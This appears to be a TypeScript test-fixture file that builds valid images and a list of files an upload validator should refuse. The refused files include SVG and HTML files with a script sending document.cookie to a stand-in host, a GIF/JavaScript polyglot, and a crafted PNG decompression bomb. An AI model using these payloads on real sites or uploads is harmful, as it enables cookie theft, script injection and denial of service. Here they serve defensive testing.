// Pictures for uploads: valid ones, and files that are not pictures.
import { randomBytes } from 'node:crypto'
import { crc32 } from 'node:zlib'
import sharp from 'sharp'

type Kind = 'jpeg' | 'png' | 'webp' | 'gif' | 'avif'

/** A picture of one colour; `alpha` below 1 lets it shine through. */
export function picture(
  kind: Kind = 'png',
  { width = 60, height = 40, alpha = 1 }: { width?: number; height?: number; alpha?: number } = {},
): Promise<Buffer> {
  const background = { r: 30, g: 90, b: 160, alpha }
  return sharp({ create: { width, height, channels: 4, background } })
    .toFormat(kind)
    .toBuffer()
}

/** A portrait taken with the camera on its side, with the place where it was taken. */
export function sidewaysJpeg(): Promise<Buffer> {
  return sharp({ create: { width: 80, height: 40, channels: 3, background: 'red' } })
    .composite([
      { input: { create: { width: 40, height: 40, channels: 3, background: 'blue' } }, left: 0, top: 0 },
    ])
    .withExif({ IFD0: { Copyright: 'Nadie debe leer esto' }, IFD3: { GPSLatitude: '19/1 25/1 0/1' } })
    .withMetadata({ orientation: 6 })
    .jpeg()
    .toBuffer()
}

/** A GIF of two frames: red, then blue. */
export async function movingGif(): Promise<Buffer> {
  const frame = (colour: string) =>
    sharp({ create: { width: 10, height: 10, channels: 3, background: colour } })
      .png()
      .toBuffer()
  return sharp([await frame('red'), await frame('blue')], { join: { animated: true } })
    .gif()
    .toBuffer()
}

/** A PNG of a few bytes that says it unfolds to `side`² pixels (a decompression bomb). */
async function bomb(side = 60_000): Promise<Buffer> {
  const bytes = await picture('png')
  // Width and height of the header, and the checksum over it.
  bytes.writeUInt32BE(side, 16)
  bytes.writeUInt32BE(side, 20)
  bytes.writeUInt32BE(crc32(bytes.subarray(12, 29)), 29)
  return bytes
}

const SCRIPT = '<script>fetch("https://malo.example/"+document.cookie)</script>'

type Refused = { name: string; file: string; type: string; bytes: () => Promise<Buffer>; key: string }

/** Files that are refused as pictures, each with the key of its error text. */
export const NO_PICTURES: readonly Refused[] = [
  {
    name: 'SVG',
    file: 'logo.svg',
    type: 'image/svg+xml',
    bytes: async () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
    key: 'image_type',
  },
  {
    name: 'SVG with an XML head that calls itself PNG',
    file: 'logo.png',
    type: 'image/png',
    bytes: async () =>
      Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
    key: 'image_type',
  },
  {
    name: 'HTML that calls itself JPEG',
    file: 'foto.jpg',
    type: 'image/jpeg',
    bytes: async () => Buffer.from(`<!doctype html><html>${SCRIPT}</html>`),
    key: 'image_type',
  },
  {
    name: 'PDF',
    file: 'foto.pdf',
    type: 'application/pdf',
    bytes: async () => Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n'),
    key: 'image_type',
  },
  {
    name: 'TIFF',
    file: 'foto.tiff',
    type: 'image/tiff',
    bytes: () =>
      sharp({ create: { width: 4, height: 4, channels: 3, background: 'red' } })
        .tiff()
        .toBuffer(),
    key: 'image_type',
  },
  {
    name: 'PNG declared as JPEG',
    file: 'foto.png',
    type: 'image/jpeg',
    bytes: () => picture('png'),
    key: 'image_mislabelled',
  },
  {
    name: 'PNG named .jpg',
    file: 'foto.jpg',
    type: 'image/png',
    bytes: () => picture('png'),
    key: 'image_mislabelled',
  },
  {
    name: 'PNG named .html',
    file: 'foto.png.html',
    type: 'image/png',
    bytes: () => picture('png'),
    key: 'image_mislabelled',
  },
  {
    name: 'PNG declared as HTML',
    file: 'foto.png',
    type: 'text/html',
    bytes: () => picture('png'),
    key: 'image_mislabelled',
  },
  {
    name: 'decompression bomb',
    file: 'foto.png',
    type: 'image/png',
    bytes: () => bomb(),
    key: 'image_pixels',
  },
  {
    name: 'JPEG cut off',
    file: 'foto.jpg',
    type: 'image/jpeg',
    bytes: async () => {
      const noise = { width: 400, height: 400, channels: 3 } as const
      const whole = await sharp(randomBytes(400 * 400 * 3), { raw: noise })
        .jpeg()
        .toBuffer()
      return whole.subarray(0, whole.length / 2)
    },
    key: 'image_damaged',
  },
  {
    name: 'GIF that is JavaScript behind its head',
    file: 'foto.gif',
    type: 'image/gif',
    bytes: async () => Buffer.from('GIF89a/*\u0000\u0000*/=1;alert(document.domain)//'),
    key: 'image_damaged',
  },
]
